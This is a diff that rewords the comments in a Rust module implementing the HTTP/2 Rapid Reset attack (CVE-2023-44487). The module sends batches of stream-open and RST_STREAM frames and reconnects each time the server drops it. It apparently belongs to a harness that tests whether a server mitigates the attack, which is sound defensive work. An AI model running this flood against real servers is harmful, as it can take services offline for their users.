@@ -1,4 +1,4 @@
-//! A client of HTTP/2 that opens streams only to reset them (CVE-2023-44487).
+//! An HTTP/2 client that opens streams only to reset them (CVE-2023-44487).
 
 use std::sync::Arc;
 use std::sync::atomic::{AtomicUsize, Ordering};
@@ -10,23 +10,23 @@ use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
 use super::place::HOST;
 use super::visitors::{Duplex, Enough, Entrance};
 
-/// Streams that are opened and reset in one piece of writing.
+/// The number of streams that are opened and reset in one write.
 const AT_ONCE: u32 = 50;
-/// Between two connections of one attacker.
+/// The time between two connections of an attacker.
 const PAUSE: Duration = Duration::from_millis(20);
 
-/// How often it was sent away.
+/// Counts the resets and how often the server closed the connection.
 #[derive(Default)]
 pub(super) struct Sent {
     pub(super) resets: AtomicUsize,
     pub(super) away: AtomicUsize,
 }
 
-/// Resets streams until somebody has enough; begins again whenever it is sent away.
+/// Resets streams until told to stop, and reconnects whenever the server closes the connection.
 pub(super) async fn reset(entrance: Entrance, sent: Arc<Sent>, enough: Arc<Enough>) {
     while !enough.is_it() {
         if let Ok(mut stream) = entrance.open().await {
-            // Being cut off is what it deserves.
+            // The server is expected to close the connection.
             let _ = until_sent_away(&mut *stream, &sent, &enough).await;
             sent.away.fetch_add(1, Ordering::Relaxed);
         }
@@ -40,7 +40,7 @@ async fn until_sent_away(stream: &mut dyn Duplex, sent: &Sent, enough: &Enough) 
     const RST_STREAM: u8 = 3;
     const END_OF_BOTH: u8 = 0x5;
     const CANCEL: [u8; 4] = [0, 0, 0, 8];
-    // GET, https and / stand in the static table (RFC 7541, appendix A); the host is written out.
+    // GET, https and / are in the static table (RFC 7541, appendix A); the host is a literal.
     let mut head = vec![0x82, 0x87, 0x84, 0x01, u8::try_from(HOST.len())?];
     head.extend_from_slice(HOST.as_bytes());
     stream
@@ -59,7 +59,7 @@ async fn until_sent_away(stream: &mut dyn Duplex, sent: &Sent, enough: &Enough) 
         stream.write_all(&bytes).await?;
         stream.flush().await?;
         sent.resets.fetch_add(AT_ONCE as usize, Ordering::Relaxed);
-        // What is said is of no interest, but that it ends.
+        // The contents do not matter, only whether the connection was closed.
         let read = tokio::time::timeout(Duration::from_millis(1), stream.read(&mut heard));
         if let Ok(Ok(0) | Err(_)) = read.await {
             break;
